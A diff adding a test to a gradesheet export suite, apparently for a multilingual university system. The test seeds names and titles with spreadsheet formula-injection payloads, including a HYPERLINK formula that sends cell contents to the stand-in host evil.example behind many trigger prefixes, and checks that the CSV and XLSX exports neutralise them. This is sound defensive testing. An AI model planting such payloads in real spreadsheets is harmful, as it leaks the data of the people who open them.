@@ -148,6 +148,27 @@ test('O7: the CSV is read back cell by cell, no cell is a formula, and its check
   assert.equal(sha256(plain.map((record) => `${record.slice(0, -1).join('\t')}\n`).join('')), sheet.checksum)
 })
 
+test('Attack: no text of a sheet becomes a formula or a link in its CSV and XLSX, in whatever field and behind whatever it stands', async () => {
+  const formula = 'HYPERLINK("https://evil.example?"&A1;"click")'
+  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n@', ' =', "'=", '"=', ';=', '=;', '\u00a0=', '\u200b=', '\ufeff=', '%', '|']
+  const made = await makeSheet(stack, starts.map((start) => start + formula))
+  await stack.sql('update disciplines set title_kk = $2, title_ru = $2, title_en = $2 where code = $1', [made.discipline, `=${formula}`])
+  await stack.sql('update exam_sessions set title_kk = $2, title_ru = $2, title_en = $2 where code = $1', [made.session, `+${formula}`])
+  await stack.sql('update groups set name = $2 where name = $1', [made.group, `-1+${made.group}`])
+  await stack.sql('update users set full_name = $2 where id = $1', [made.lead.id, `@${formula}`])
+  const sheet = await made.teacher.confirmGradesheet({ id: made.exam }, {})
+  const records = recordsOf(await made.teacher.getGradesheetCsv({ id: sheet.id }))
+  assert.equal(new Set(records.map((record) => record.length)).size, 1)
+  assert.ok(records.flat().filter((cell) => cell.includes('HYPERLINK')).length >= 2 * starts.length, 'names and disciplines are in it')
+  for (const cell of records.flat()) assert.doesNotMatch(cell, /^[\s\u200b\ufeff]*[=+\-@]/u)
+  for (const language of ['kk', 'ru', 'en']) {
+    writeFileSync(join(directory, 'attack.xlsx'), await made.teacher.getGradesheetXlsx({ id: sheet.id, language }))
+    const parts = execFileSync('unzip', ['-p', join(directory, 'attack.xlsx')]).toString()
+    assert.ok(parts.includes('HYPERLINK'))
+    assert.doesNotMatch(parts, /<f[ >]|<hyperlink|TargetMode="External"|<ddeLink|<externalReference/)
+  }
+})
+
 test('O7: the recipe of the README recomputes the checksum from the JSON', async () => {
   const { sheet, teacher } = await confirmed()
   await teacher.getGradesheet({ id: sheet.id })
